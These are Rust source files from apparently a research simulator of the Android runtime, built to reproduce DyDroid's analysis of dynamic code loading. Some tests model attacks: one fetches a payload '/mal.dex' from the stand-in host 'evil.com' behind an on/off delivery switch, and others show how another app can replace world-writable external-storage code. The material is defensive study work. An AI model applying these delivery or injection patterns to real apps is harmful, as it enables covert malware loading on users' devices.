    }
}

fn npe(op: &str, field: &str) -> Exec {
    Exec::Throw(format!("NullPointerException: {op} {field}"))
}

fn int_for_cmp(v: &Value) -> i64 {
    match v {
        Value::Int(n) => *n,
        Value::Null => 0,
        Value::Obj(_) => 1,
        Value::Str(s) => i64::from(!s.is_empty()),
    }
}

/// The default value for a method's declared return type.
pub fn default_return(method: &Method) -> Value {
    if method.sig.returns_value() {
        match method.sig.ret() {
            dydroid_dex::TypeDesc::Int
            | dydroid_dex::TypeDesc::Boolean
            | dydroid_dex::TypeDesc::Long => Value::Int(0),
            _ => Value::Null,
        }
    } else {
        Value::Null
    }
}

/// Whether a class is provided by the platform (dispatched intrinsically,
/// never resolved from app class spaces).
pub fn is_framework_class(class: &str) -> bool {
    class.starts_with("java.")
        || class.starts_with("javax.")
        || class.starts_with("android.")
        || class.starts_with("dalvik.")
        || class.starts_with("com.android.")
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::device::{Device, DeviceConfig};
    use dydroid_dex::builder::DexBuilder;
    use dydroid_dex::{CmpKind, DexFile, FieldRef, Manifest, MethodRef};

    fn run(classes: DexFile, class: &str, method: &str) -> (Result<Value, Exec>, Device) {
        let mut device = Device::new(DeviceConfig::default());
        let mut proc = Process::new("com.a".to_string(), classes, &Manifest::new("com.a"));
        let result = {
            let mut vm = Vm::new(&mut device, &mut proc);
            vm.call_entry(class, method)
        };
        (result, device)
    }

    #[test]
    fn arithmetic_and_return() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_int(0, 6);
        m.const_int(1, 7);
        m.binop(dydroid_dex::BinOp::Mul, 2, 0, 1);
        m.ret(2);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(42));
    }

    #[test]
    fn divide_by_zero_throws() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_int(0, 1);
        m.const_int(1, 0);
        m.binop(dydroid_dex::BinOp::Div, 2, 0, 1);
        m.ret(2);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::Throw(msg)) if msg.contains("divide by zero")));
    }

    #[test]
    fn loops_and_branches() {
        // Sum 1..=5 via a loop.
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(4);
        m.const_int(0, 0); // acc
        m.const_int(1, 5); // i
        let head = m.label();
        let done = m.label();
        m.bind(head);
        m.if_zero(CmpKind::Le, 1, done);
        m.binop(dydroid_dex::BinOp::Add, 0, 0, 1);
        m.const_int(2, 1);
        m.binop(dydroid_dex::BinOp::Sub, 1, 1, 2);
        m.goto(head);
        m.bind(done);
        m.ret(0);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(15));
    }

    #[test]
    fn infinite_loop_hits_fuel() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        let head = m.label();
        m.bind(head);
        m.goto(head);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r, Err(Exec::OutOfFuel));
    }

    #[test]
    fn fields_and_methods_across_objects() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.a.Counter", "java.lang.Object");
            c.field("n", "I", AccessFlags::PRIVATE);
            let inc = c.method("bump", "()V", AccessFlags::PUBLIC);
            inc.registers(4);
            inc.iget(1, 0, FieldRef::new("com.a.Counter", "n", "I"));
            inc.const_int(2, 1);
            inc.binop(dydroid_dex::BinOp::Add, 1, 1, 2);
            inc.iput(1, 0, FieldRef::new("com.a.Counter", "n", "I"));
            inc.ret_void();
        }
        {
            let c = b.class("com.a.M", "java.lang.Object");
            let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(4);
            m.new_instance(0, "com.a.Counter");
            m.invoke_virtual(MethodRef::new("com.a.Counter", "bump", "()V"), vec![0]);
            m.invoke_virtual(MethodRef::new("com.a.Counter", "bump", "()V"), vec![0]);
            m.iget(1, 0, FieldRef::new("com.a.Counter", "n", "I"));
            m.ret(1);
        }
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(2));
    }

    #[test]
    fn statics_shared() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.registers(2);
        m.const_int(0, 99);
        m.sput(0, FieldRef::new("com.a.G", "v", "I"));
        m.sget(1, FieldRef::new("com.a.G", "v", "I"));
        m.ret(1);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(99));
    }

    #[test]
    fn null_receiver_is_npe() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_null(0);
        m.invoke_virtual(MethodRef::new("com.a.M", "g", "()V"), vec![0]);
        m.ret_void();
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::Throw(msg)) if msg.contains("NullPointerException")));
    }

    #[test]
    fn missing_class_throws_cnfe() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.new_instance(0, "com.a.Ghost");
        m.invoke_virtual(MethodRef::new("com.a.Ghost", "g", "()V"), vec![0]);
        m.ret_void();
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::Throw(msg)) if msg.contains("ClassNotFoundException")));
    }

    #[test]
    fn explicit_throw_propagates() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.const_str(0, "custom failure");
        m.throw(0);
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r, Err(Exec::Throw("custom failure".to_string())));
    }

    #[test]
    fn recursion_depth_limited() {
        let mut b = DexBuilder::new();
        let c = b.class("com.a.M", "java.lang.Object");
        let m = c.method("f", "()V", AccessFlags::PUBLIC | AccessFlags::STATIC);
        m.invoke_static(MethodRef::new("com.a.M", "f", "()V"), vec![]);
        m.ret_void();
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert!(matches!(r, Err(Exec::StackOverflow) | Err(Exec::OutOfFuel)));
    }

    #[test]
    fn framework_class_detection() {
        assert!(is_framework_class("java.net.URL"));
        assert!(is_framework_class("dalvik.system.DexClassLoader"));
        assert!(is_framework_class("android.telephony.TelephonyManager"));
        assert!(!is_framework_class("com.example.Main"));
        assert!(!is_framework_class("com.google.ads.Loader"));
    }

    #[test]
    fn virtual_dispatch_uses_runtime_class() {
        let mut b = DexBuilder::new();
        {
            let c = b.class("com.a.Base", "java.lang.Object");
            let m = c.method("v", "()I", AccessFlags::PUBLIC);
            m.const_int(1, 1);
            m.ret(1);
        }
        {
            let c = b.class("com.a.Sub", "com.a.Base");
            let m = c.method("v", "()I", AccessFlags::PUBLIC);
            m.const_int(1, 2);
            m.ret(1);
        }
        {
            let c = b.class("com.a.M", "java.lang.Object");
            let m = c.method("f", "()I", AccessFlags::PUBLIC | AccessFlags::STATIC);
            m.registers(4);
            m.new_instance(0, "com.a.Sub");
            // Statically typed as Base; must hit Sub::v.
            m.invoke_virtual(MethodRef::new("com.a.Base", "v", "()I"), vec![0]);
            m.move_result(1);
            m.ret(1);
        }
        let (r, _) = run(b.build(), "com.a.M", "f");
        assert_eq!(r.unwrap(), Value::Int(2));
    }
}
