//! The simulated network: named remote servers serving byte payloads.
//!
//! The paper's remote-fetch apps download DEX/JAR payloads from ad-network
//! servers (e.g. `http://mobads.baidu.com/ads/pa/`), and the authors'
//! Bouncer experiment used a server that could enable/disable malware
//! delivery — [`Network::set_enabled`] models that switch.

use std::collections::HashMap;

/// A simulated remote network keyed by domain.
#[derive(Debug, Clone, Default)]
pub struct Network {
    servers: HashMap<String, Server>,
}

#[derive(Debug, Clone, Default)]
struct Server {
    resources: HashMap<String, Vec<u8>>,
    enabled: bool,
}

/// Splits a URL of the form `http(s)://domain/path` into `(domain, path)`.
pub fn split_url(url: &str) -> Option<(&str, &str)> {
    let rest = url
        .strip_prefix("http://")
        .or_else(|| url.strip_prefix("https://"))?;
    match rest.find('/') {
        Some(idx) => Some((&rest[..idx], &rest[idx..])),
        None => Some((rest, "/")),
    }
}

impl Network {
    /// Creates an empty network.
    pub fn new() -> Self {
        Network::default()
    }

    /// Publishes `data` at `http://<domain><path>`. The server is enabled
    /// on first publication.
    pub fn host(&mut self, domain: &str, path: &str, data: Vec<u8>) {
        let server = self
            .servers
            .entry(domain.to_string())
            .or_insert_with(|| Server {
                resources: HashMap::new(),
                enabled: true,
            });
        server.resources.insert(path.to_string(), data);
    }

    /// Enables or disables a whole server — the paper's malware-delivery
    /// switch used during app review.
    pub fn set_enabled(&mut self, domain: &str, enabled: bool) {
        if let Some(server) = self.servers.get_mut(domain) {
            server.enabled = enabled;
        }
    }

    /// Fetches the resource at `url`, if the server exists, is enabled and
    /// has the path.
    pub fn fetch(&self, url: &str) -> Option<&[u8]> {
        let (domain, path) = split_url(url)?;
        let server = self.servers.get(domain)?;
        if !server.enabled {
            return None;
        }
        server.resources.get(path).map(Vec::as_slice)
    }

    /// Whether a domain is known (enabled or not).
    pub fn has_domain(&self, domain: &str) -> bool {
        self.servers.contains_key(domain)
    }

    /// Number of hosted resources across all servers.
    pub fn resource_count(&self) -> usize {
        self.servers.values().map(|s| s.resources.len()).sum()
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn url_splitting() {
        assert_eq!(
            split_url("http://mobads.baidu.com/ads/pa/x.jar"),
            Some(("mobads.baidu.com", "/ads/pa/x.jar"))
        );
        assert_eq!(split_url("https://a.com"), Some(("a.com", "/")));
        assert_eq!(split_url("ftp://a.com/x"), None);
        assert_eq!(split_url("not a url"), None);
    }

    #[test]
    fn host_and_fetch() {
        let mut net = Network::new();
        net.host("cdn.example.com", "/payload.dex", vec![1, 2, 3]);
        assert_eq!(
            net.fetch("http://cdn.example.com/payload.dex"),
            Some(&[1u8, 2, 3][..])
        );
        assert_eq!(net.fetch("http://cdn.example.com/other"), None);
        assert_eq!(net.fetch("http://unknown.com/payload.dex"), None);
    }

    #[test]
    fn disable_switch() {
        let mut net = Network::new();
        net.host("evil.com", "/mal.dex", vec![9]);
        assert!(net.fetch("http://evil.com/mal.dex").is_some());
        net.set_enabled("evil.com", false);
        assert!(net.fetch("http://evil.com/mal.dex").is_none());
        net.set_enabled("evil.com", true);
        assert!(net.fetch("http://evil.com/mal.dex").is_some());
    }

    #[test]
    fn counters() {
        let mut net = Network::new();
        net.host("a.com", "/1", vec![]);
        net.host("a.com", "/2", vec![]);
        net.host("b.com", "/1", vec![]);
        assert_eq!(net.resource_count(), 3);
        assert!(net.has_domain("a.com"));
        assert!(!net.has_domain("c.com"));
    }
}
