//! The simulated device filesystem.
//!
//! A flat map from absolute paths to file nodes with an ownership and
//! permission model that matches what the paper's vulnerability analysis
//! depends on:
//!
//! - each app may write only inside its own internal storage
//!   (`/data/data/<pkg>/…`);
//! - *reads are not restricted* — apps can and do read (and dynamically
//!   load) files from other apps' internal storage, which is exactly the
//!   code-injection variant DyDroid flags;
//! - external storage (`/mnt/sdcard/…`) is writable by anyone before
//!   API 19 (Android 4.4) and by holders of `WRITE_EXTERNAL_STORAGE` after;
//! - system paths are writable only by the system itself.

use std::collections::BTreeMap;
use std::fmt;

use crate::paths;

/// Who is performing or owns a filesystem operation.
#[derive(Debug, Clone, PartialEq, Eq, Hash)]
pub enum Owner {
    /// The OS / installer.
    System,
    /// An installed application, by package name.
    App(String),
}

impl Owner {
    /// Convenience constructor for an app owner.
    pub fn app(pkg: impl Into<String>) -> Self {
        Owner::App(pkg.into())
    }
}

/// Filesystem errors.
#[derive(Debug, Clone, PartialEq, Eq)]
pub enum FsError {
    /// The path does not exist.
    NotFound(String),
    /// The actor may not write/delete/rename at this path.
    PermissionDenied {
        /// Offending path.
        path: String,
        /// Actor that was denied.
        actor: String,
    },
}

impl fmt::Display for FsError {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        match self {
            FsError::NotFound(p) => write!(f, "no such file: {p}"),
            FsError::PermissionDenied { path, actor } => {
                write!(f, "permission denied for {actor} at {path}")
            }
        }
    }
}

impl std::error::Error for FsError {}

#[derive(Debug, Clone)]
struct FileNode {
    data: Vec<u8>,
    owner: Owner,
}

/// The device filesystem.
///
/// Permission checks need to know which packages hold
/// `WRITE_EXTERNAL_STORAGE` and the device API level; both are supplied by
/// the caller ([`crate::Device`] wires them in).
#[derive(Debug, Clone, Default)]
pub struct FileSystem {
    files: BTreeMap<String, FileNode>,
}

/// The context a permission check runs under.
#[derive(Clone, Copy)]
pub struct FsPolicy<'a> {
    /// Device API level (19 = Android 4.4, the external-storage cutoff).
    pub api_level: u32,
    /// Packages holding `WRITE_EXTERNAL_STORAGE`.
    pub external_writers: &'a dyn Fn(&str) -> bool,
}

impl FileSystem {
    /// Creates an empty filesystem.
    pub fn new() -> Self {
        FileSystem::default()
    }

    fn may_write(&self, path: &str, actor: &Owner, policy: &FsPolicy<'_>) -> bool {
        match actor {
            Owner::System => true,
            Owner::App(pkg) => {
                if paths::is_system(path) {
                    return false;
                }
                if let Some(owner_pkg) = paths::internal_owner(path) {
                    return owner_pkg == pkg;
                }
                if paths::app_lib_owner(path).is_some() {
                    // Extracted library dirs are installer-managed.
                    return false;
                }
                if paths::is_external(path) {
                    return policy.api_level < 19 || (policy.external_writers)(pkg);
                }
                // Anywhere else (e.g. /tmp-like scratch) is denied.
                false
            }
        }
    }

    /// Writes (creating or replacing) a file.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::PermissionDenied`] when `actor` may not write at
    /// `path` under `policy`.
    pub fn write(
        &mut self,
        path: &str,
        data: Vec<u8>,
        actor: &Owner,
        policy: &FsPolicy<'_>,
    ) -> Result<(), FsError> {
        if !self.may_write(path, actor, policy) {
            return Err(FsError::PermissionDenied {
                path: path.to_string(),
                actor: format!("{actor:?}"),
            });
        }
        // Overwriting keeps the original owner for files the actor may
        // legitimately touch; new files belong to the actor.
        let owner = self
            .files
            .get(path)
            .map(|n| n.owner.clone())
            .unwrap_or_else(|| actor.clone());
        self.files
            .insert(path.to_string(), FileNode { data, owner });
        Ok(())
    }

    /// Appends to a file, creating it if missing.
    ///
    /// # Errors
    ///
    /// Same permission rules as [`FileSystem::write`].
    pub fn append(
        &mut self,
        path: &str,
        data: &[u8],
        actor: &Owner,
        policy: &FsPolicy<'_>,
    ) -> Result<(), FsError> {
        if !self.may_write(path, actor, policy) {
            return Err(FsError::PermissionDenied {
                path: path.to_string(),
                actor: format!("{actor:?}"),
            });
        }
        match self.files.get_mut(path) {
            Some(node) => {
                node.data.extend_from_slice(data);
                Ok(())
            }
            None => self.write(path, data.to_vec(), actor, policy),
        }
    }

    /// Reads a file. Reads are unrestricted (see module docs).
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if the path does not exist.
    pub fn read(&self, path: &str) -> Result<&[u8], FsError> {
        self.files
            .get(path)
            .map(|n| n.data.as_slice())
            .ok_or_else(|| FsError::NotFound(path.to_string()))
    }

    /// Whether a path exists.
    pub fn exists(&self, path: &str) -> bool {
        self.files.contains_key(path)
    }

    /// The owner of a file, if it exists.
    pub fn owner(&self, path: &str) -> Option<&Owner> {
        self.files.get(path).map(|n| &n.owner)
    }

    /// Deletes a file.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] or [`FsError::PermissionDenied`].
    pub fn delete(
        &mut self,
        path: &str,
        actor: &Owner,
        policy: &FsPolicy<'_>,
    ) -> Result<(), FsError> {
        if !self.files.contains_key(path) {
            return Err(FsError::NotFound(path.to_string()));
        }
        if !self.may_write(path, actor, policy) {
            return Err(FsError::PermissionDenied {
                path: path.to_string(),
                actor: format!("{actor:?}"),
            });
        }
        self.files.remove(path);
        Ok(())
    }

    /// Renames a file.
    ///
    /// # Errors
    ///
    /// Returns [`FsError::NotFound`] if `from` is missing, or
    /// [`FsError::PermissionDenied`] if the actor may not modify either end.
    pub fn rename(
        &mut self,
        from: &str,
        to: &str,
        actor: &Owner,
        policy: &FsPolicy<'_>,
    ) -> Result<(), FsError> {
        if !self.files.contains_key(from) {
            return Err(FsError::NotFound(from.to_string()));
        }
        if !self.may_write(from, actor, policy) || !self.may_write(to, actor, policy) {
            return Err(FsError::PermissionDenied {
                path: format!("{from} -> {to}"),
                actor: format!("{actor:?}"),
            });
        }
        let node = self.files.remove(from).expect("checked above");
        self.files.insert(to.to_string(), node);
        Ok(())
    }

    /// Lists all paths under a prefix.
    pub fn list<'a>(&'a self, prefix: &'a str) -> impl Iterator<Item = &'a str> {
        self.files
            .range(prefix.to_string()..)
            .take_while(move |(k, _)| k.starts_with(prefix))
            .map(|(k, _)| k.as_str())
    }

    /// Number of files on the device.
    pub fn file_count(&self) -> usize {
        self.files.len()
    }

    /// Total bytes stored.
    pub fn total_bytes(&self) -> usize {
        self.files.values().map(|n| n.data.len()).sum()
    }

    /// System-level write that bypasses permission checks (installer use).
    pub fn write_system(&mut self, path: &str, data: Vec<u8>, owner: Owner) {
        self.files
            .insert(path.to_string(), FileNode { data, owner });
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn no_writers(_: &str) -> bool {
        false
    }

    fn all_writers(_: &str) -> bool {
        true
    }

    fn policy<'a>(api: u32, f: &'a dyn Fn(&str) -> bool) -> FsPolicy<'a> {
        FsPolicy {
            api_level: api,
            external_writers: f,
        }
    }

    #[test]
    fn own_internal_storage_writable() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        let a = Owner::app("com.a");
        assert!(fs
            .write("/data/data/com.a/files/x", vec![1], &a, &p)
            .is_ok());
        assert_eq!(fs.read("/data/data/com.a/files/x").unwrap(), &[1]);
    }

    #[test]
    fn foreign_internal_storage_not_writable_but_readable() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        fs.write_system(
            "/data/data/com.b/files/lib.so",
            vec![7],
            Owner::app("com.b"),
        );
        let a = Owner::app("com.a");
        assert!(fs
            .write("/data/data/com.b/files/lib.so", vec![0], &a, &p)
            .is_err());
        assert!(fs.delete("/data/data/com.b/files/lib.so", &a, &p).is_err());
        // The vulnerability: reading (and thus loading) is allowed.
        assert_eq!(fs.read("/data/data/com.b/files/lib.so").unwrap(), &[7]);
    }

    #[test]
    fn external_storage_pre_kitkat_world_writable() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        let a = Owner::app("com.a");
        let b = Owner::app("com.b");
        assert!(fs.write("/mnt/sdcard/x.jar", vec![1], &a, &p).is_ok());
        // Another app can replace it: the code-injection vector.
        assert!(fs.write("/mnt/sdcard/x.jar", vec![2], &b, &p).is_ok());
        assert_eq!(fs.read("/mnt/sdcard/x.jar").unwrap(), &[2]);
    }

    #[test]
    fn external_storage_post_kitkat_requires_permission() {
        let mut fs = FileSystem::new();
        let deny = policy(19, &no_writers);
        let allow = policy(19, &all_writers);
        let a = Owner::app("com.a");
        assert!(fs.write("/mnt/sdcard/x.jar", vec![1], &a, &deny).is_err());
        assert!(fs.write("/mnt/sdcard/x.jar", vec![1], &a, &allow).is_ok());
    }

    #[test]
    fn system_paths_protected() {
        let mut fs = FileSystem::new();
        let p = policy(18, &all_writers);
        let a = Owner::app("com.a");
        assert!(fs.write("/system/lib/libc.so", vec![1], &a, &p).is_err());
        assert!(fs
            .write("/system/lib/libc.so", vec![1], &Owner::System, &p)
            .is_ok());
    }

    #[test]
    fn app_lib_dir_installer_managed() {
        let mut fs = FileSystem::new();
        let p = policy(18, &all_writers);
        let a = Owner::app("com.a");
        assert!(fs
            .write("/data/app-lib/com.a/libx.so", vec![1], &a, &p)
            .is_err());
    }

    #[test]
    fn rename_within_own_storage() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        let a = Owner::app("com.a");
        fs.write("/data/data/com.a/cache/t.dex", vec![1], &a, &p)
            .unwrap();
        fs.rename(
            "/data/data/com.a/cache/t.dex",
            "/data/data/com.a/files/t.dex",
            &a,
            &p,
        )
        .unwrap();
        assert!(!fs.exists("/data/data/com.a/cache/t.dex"));
        assert!(fs.exists("/data/data/com.a/files/t.dex"));
    }

    #[test]
    fn rename_across_foreign_storage_denied() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        let a = Owner::app("com.a");
        fs.write("/data/data/com.a/cache/t.dex", vec![1], &a, &p)
            .unwrap();
        assert!(fs
            .rename(
                "/data/data/com.a/cache/t.dex",
                "/data/data/com.b/files/t.dex",
                &a,
                &p
            )
            .is_err());
    }

    #[test]
    fn delete_missing_reports_not_found() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        assert_eq!(
            fs.delete("/data/data/com.a/x", &Owner::app("com.a"), &p),
            Err(FsError::NotFound("/data/data/com.a/x".to_string()))
        );
    }

    #[test]
    fn append_creates_and_extends() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        let a = Owner::app("com.a");
        fs.append("/data/data/com.a/log", &[1], &a, &p).unwrap();
        fs.append("/data/data/com.a/log", &[2, 3], &a, &p).unwrap();
        assert_eq!(fs.read("/data/data/com.a/log").unwrap(), &[1, 2, 3]);
    }

    #[test]
    fn list_prefix() {
        let mut fs = FileSystem::new();
        let p = policy(18, &no_writers);
        let a = Owner::app("com.a");
        fs.write("/data/data/com.a/cache/ad1.dex", vec![], &a, &p)
            .unwrap();
        fs.write("/data/data/com.a/cache/ad2.dex", vec![], &a, &p)
            .unwrap();
        fs.write("/data/data/com.a/files/x", vec![], &a, &p)
            .unwrap();
        assert_eq!(fs.list("/data/data/com.a/cache/").count(), 2);
        assert_eq!(fs.list("/data/data/com.a/").count(), 3);
    }

    #[test]
    fn counters() {
        let mut fs = FileSystem::new();
        fs.write_system("/system/lib/a.so", vec![1, 2], Owner::System);
        assert_eq!(fs.file_count(), 1);
        assert_eq!(fs.total_bytes(), 2);
    }
}
