//! Canonical device path layout helpers.
//!
//! The layout mirrors the device the paper measured on: per-app internal
//! storage under `/data/data/<pkg>/`, shared external storage under
//! `/mnt/sdcard/`, system native libraries under `/system/lib/`, and
//! per-app extracted native libraries under `/data/app-lib/<pkg>/`.

/// Root of external (SD card) storage.
pub const EXTERNAL_ROOT: &str = "/mnt/sdcard";
/// Directory of system-provided native libraries (skipped by the DCL
/// logger, as in the paper).
pub const SYSTEM_LIB: &str = "/system/lib";

/// Internal storage root of an app: `/data/data/<pkg>`.
pub fn internal_dir(pkg: &str) -> String {
    format!("/data/data/{pkg}")
}

/// Files directory of an app: `/data/data/<pkg>/files`.
pub fn files_dir(pkg: &str) -> String {
    format!("/data/data/{pkg}/files")
}

/// Cache directory of an app: `/data/data/<pkg>/cache` — the directory the
/// advertisement SDKs stage their temporary DEX payloads in.
pub fn cache_dir(pkg: &str) -> String {
    format!("/data/data/{pkg}/cache")
}

/// Default optimized-DEX output directory of an app.
pub fn odex_dir(pkg: &str) -> String {
    format!("/data/data/{pkg}/odex")
}

/// Directory native libraries are extracted to at install time.
pub fn app_lib_dir(pkg: &str) -> String {
    format!("/data/app-lib/{pkg}")
}

/// Whether `path` lies under external storage.
pub fn is_external(path: &str) -> bool {
    path.starts_with(EXTERNAL_ROOT)
}

/// Whether `path` lies under a system directory.
pub fn is_system(path: &str) -> bool {
    path.starts_with("/system")
}

/// If `path` lies in some app's internal storage, returns that package.
pub fn internal_owner(path: &str) -> Option<&str> {
    let rest = path.strip_prefix("/data/data/")?;
    let end = rest.find('/').unwrap_or(rest.len());
    if end == 0 {
        None
    } else {
        Some(&rest[..end])
    }
}

/// If `path` lies in some app's extracted-library directory, returns that
/// package.
pub fn app_lib_owner(path: &str) -> Option<&str> {
    let rest = path.strip_prefix("/data/app-lib/")?;
    let end = rest.find('/').unwrap_or(rest.len());
    if end == 0 {
        None
    } else {
        Some(&rest[..end])
    }
}

/// Maps a JNI library name to its file name, as `System.mapLibraryName`
/// does: `foo` becomes `libfoo.so`.
pub fn map_library_name(name: &str) -> String {
    format!("lib{name}.so")
}

/// The base name of a path (`/a/b/c.dex` → `c.dex`).
pub fn basename(path: &str) -> &str {
    path.rsplit('/').next().unwrap_or(path)
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn layout() {
        assert_eq!(internal_dir("a.b"), "/data/data/a.b");
        assert_eq!(files_dir("a.b"), "/data/data/a.b/files");
        assert_eq!(cache_dir("a.b"), "/data/data/a.b/cache");
        assert_eq!(odex_dir("a.b"), "/data/data/a.b/odex");
        assert_eq!(app_lib_dir("a.b"), "/data/app-lib/a.b");
    }

    #[test]
    fn classification() {
        assert!(is_external("/mnt/sdcard/x.dex"));
        assert!(!is_external("/data/data/a/x.dex"));
        assert!(is_system("/system/lib/libc.so"));
        assert_eq!(internal_owner("/data/data/a.b/files/x"), Some("a.b"));
        assert_eq!(internal_owner("/data/data/a.b"), Some("a.b"));
        assert_eq!(internal_owner("/mnt/sdcard/x"), None);
        assert_eq!(internal_owner("/data/data/"), None);
        assert_eq!(app_lib_owner("/data/app-lib/a.b/libx.so"), Some("a.b"));
        assert_eq!(app_lib_owner("/system/lib/libc.so"), None);
    }

    #[test]
    fn library_names() {
        assert_eq!(map_library_name("native"), "libnative.so");
        assert_eq!(basename("/a/b/c.dex"), "c.dex");
        assert_eq!(basename("c.dex"), "c.dex");
    }
}
