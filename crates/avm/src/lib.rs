//! # dydroid-avm
//!
//! A simulated Android runtime — the substrate DyDroid's dynamic analysis
//! runs on. The real system instruments Android 4.3.1 on a Galaxy Nexus;
//! this crate provides a faithful miniature with the same observable
//! surface:
//!
//! - a per-app **filesystem** with internal storage (`/data/data/<pkg>`),
//!   world-writable external storage (`/mnt/sdcard`, pre-KitKat semantics),
//!   and system paths ([`fs`]);
//! - a **network** of simulated remote servers ([`net`]);
//! - **device state**: system time, airplane mode, WiFi, location service —
//!   the four runtime-environment knobs of Table VIII ([`device`]);
//! - a register-based **bytecode interpreter** executing the
//!   [`dydroid_dex`] ISA with a real call stack, so Java stack traces and
//!   call-site attribution work exactly as in Figure 2 ([`interp`]);
//! - **framework intrinsics** for the API surface the measurement needs:
//!   class loaders, JNI loading, URL/stream I/O, the 18 privacy sources,
//!   content providers and behaviour sinks ([`intrinsics`]);
//! - a **native pseudo-code executor** so `.so` payloads (packer decrypt
//!   stubs, the Chathook ptrace family) have real effects ([`nativerun`]);
//! - the **DyDroid instrumentation** itself: DCL logging with stack-trace
//!   call sites, loaded-binary interception with delete/rename suppression,
//!   and the object-granularity download tracker of Table I ([`hooks`],
//!   [`flow`]).
//!
//! ## Example
//!
//! ```
//! use dydroid_avm::{Device, DeviceConfig};
//! use dydroid_dex::{Apk, DexFile, Manifest};
//!
//! let mut device = Device::new(DeviceConfig::default());
//! let apk = Apk::build(Manifest::new("com.example.app"), DexFile::new());
//! device.install(&apk.to_bytes())?;
//! assert!(device.is_installed("com.example.app"));
//! # Ok::<(), dydroid_avm::AvmError>(())
//! ```

#![forbid(unsafe_code)]
#![warn(missing_docs)]

pub mod device;
pub mod error;
pub mod events;
pub mod flow;
pub mod fs;
pub mod heap;
pub mod hooks;
pub mod interp;
pub mod intrinsics;
pub mod nativerun;
pub mod net;
pub mod paths;
pub mod process;
mod resolved;
pub mod sym;

pub use device::{Device, DeviceConfig, DeviceState};
pub use error::{AvmError, Exec};
pub use events::{BehaviorEvent, DclEvent, DclKind, Event, EventLog, FileOp};
pub use flow::{FlowGraph, FlowNode};
pub use fs::{FileSystem, FsError, Owner};
pub use heap::{Heap, ObjId, Value};
pub use hooks::{Instrumentation, InterceptedBinary};
pub use net::Network;
pub use process::{Process, Statics};
pub use resolved::IcStats;
pub use sym::{Interner, Sym};
