//! The DyDroid framework instrumentation state.
//!
//! Three hooks, exactly as in the paper's Section III-B / IV:
//!
//! 1. **DCL logger** — the class-loader constructors and JNI load APIs
//!    record path, odex dir and call-site class (the events land in the
//!    [`crate::EventLog`]); system libraries under `/system/lib` are
//!    skipped.
//! 2. **Code interception with mutual exclusion** — the path of every
//!    loaded binary goes into a queue, the bytes are copied out, and
//!    `java.io.File` delete/rename *silently fail* for queued paths so
//!    that temporary payloads (the ad-SDK `cache/ad*` files) survive for
//!    later static analysis. The suppression can be disabled for the
//!    ablation bench.
//! 3. **Download tracker** — object-granularity taint edges per Table I,
//!    stored in a [`FlowGraph`].

use serde::{Deserialize, Serialize};

use crate::events::DclKind;
use crate::flow::FlowGraph;

/// A dynamically loaded binary captured by the interception hook.
#[derive(Debug, Clone, PartialEq, Serialize, Deserialize)]
pub struct InterceptedBinary {
    /// Path the binary was loaded from.
    pub path: String,
    /// The captured bytes (copied at load time, before any deletion).
    pub data: Vec<u8>,
    /// Loader kind.
    pub kind: DclKind,
    /// Call-site class of the load.
    pub call_site_class: String,
    /// Package of the loading app.
    pub package: String,
}

/// Mutable instrumentation state, owned by the [`crate::Device`].
#[derive(Debug, Clone)]
pub struct Instrumentation {
    /// Master switch: an unmodified device records nothing.
    pub enabled: bool,
    /// Whether delete/rename suppression (mutual exclusion) is active.
    /// Disabled only by the ablation benchmark.
    pub suppress_file_ops: bool,
    queue: Vec<String>,
